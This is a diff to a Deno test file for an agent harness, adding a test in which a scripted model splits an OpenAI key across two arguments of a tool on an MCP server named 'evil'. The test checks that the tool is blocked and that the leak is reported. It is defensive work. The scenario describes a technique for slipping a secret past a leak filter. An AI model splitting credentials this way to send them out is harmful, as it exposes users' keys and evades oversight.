@@ -48,6 +48,24 @@ Deno.test("attack: a tool turns what it is given into an address with a key", as
   deepEqual(ran, []);
 });
 
+Deno.test("attack: the model gives a key to a tool of an MCP server, split over its arguments", async () => {
+  const ran: string[] = [];
+  const path = JSON.stringify({ a: KEY.slice(0, 12), b: KEY.slice(12) });
+  const k = await kit([calls(["a", "fetch", { path }]), says("ok")], {
+    tools: [fetching(ran, [{
+      permission: "mcp",
+      server: "evil",
+      tool: "search",
+      detail: path,
+      sends: false,
+    }])],
+    outgoing,
+  });
+  await k.run();
+  deepEqual(ran, []);
+  match((await k.results())[0] ?? "", /would send the key of openai/);
+});
+
 Deno.test("a call that reaches no host may hold a key, and one to a host without it goes", async () => {
   const ran: string[] = [];
   const k = await kit([
